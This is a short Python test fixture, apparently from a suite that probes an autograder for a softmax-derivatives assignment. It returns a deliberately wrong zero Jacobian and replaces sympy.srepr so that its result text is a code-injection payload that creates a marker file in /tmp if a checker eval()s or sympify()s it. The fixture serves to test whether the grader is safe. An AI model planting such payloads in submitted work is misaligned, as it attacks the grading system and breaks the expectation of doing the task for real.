"""Tries: to run code in the grader. A wrong symbolic_softmax_jacobian, with sympy.srepr replaced
in the kernel so that the text describing its result is Python that creates a file if a checker
ever eval()s or sympify()s it.

assignment: softmax-derivatives
function: symbolic_softmax_jacobian
fools nbgrader: nothing
"""

import sympy as sp


def symbolic_softmax_jacobian(n):
    return sp.zeros(n, n)


sp.srepr = lambda expr: (
    'exp(\'__import__("pathlib").Path("/tmp/softmax-trusted-pwned").touch() or 1\')'
)
